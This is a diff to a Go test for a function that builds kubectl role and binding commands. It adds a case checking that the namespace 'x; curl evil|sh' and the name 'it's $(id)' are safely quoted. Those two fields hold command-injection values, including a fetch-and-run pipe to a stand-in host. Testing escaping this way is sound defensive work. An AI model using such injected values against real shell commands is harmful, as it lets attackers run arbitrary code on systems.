@@ -29,6 +29,8 @@ func TestCommandGrantsPermission(t *testing.T) {
 			"kubectl create clusterrole b-update-widgets-status --verb=update --resource=widgets.example.com/status && kubectl create clusterrolebinding b-update-widgets-status --clusterrole=b-update-widgets-status --serviceaccount=a:b"},
 		{"on one object", Permission{User: user, Verbs: []string{"get"}, Resource: "secrets", Namespace: "c", Name: "s.1"},
 			"kubectl create role b-get-secrets-s.1 --namespace=c --verb=get --resource=secrets --resource-name=s.1 && kubectl create rolebinding b-get-secrets-s.1 --namespace=c --role=b-get-secrets-s.1 --serviceaccount=a:b"},
+		{"with names that are no names", Permission{User: user, Verbs: []string{"get"}, Resource: "secrets", Namespace: "x; curl evil|sh", Name: "it's $(id)"},
+			`kubectl create role b-get-secrets-it-s-id --namespace='x; curl evil|sh' --verb=get --resource=secrets --resource-name='it'\''s $(id)' && kubectl create rolebinding b-get-secrets-it-s-id --namespace='x; curl evil|sh' --role=b-get-secrets-it-s-id --serviceaccount=a:b`},
 		{"to a user who is no account", Permission{User: "jane@example.com", Verbs: []string{"get"}, Resource: "pods"},
 			"kubectl create clusterrole jane-example.com-get-pods --verb=get --resource=pods && kubectl create clusterrolebinding jane-example.com-get-pods --clusterrole=jane-example.com-get-pods --user=jane@example.com"},
 	} {
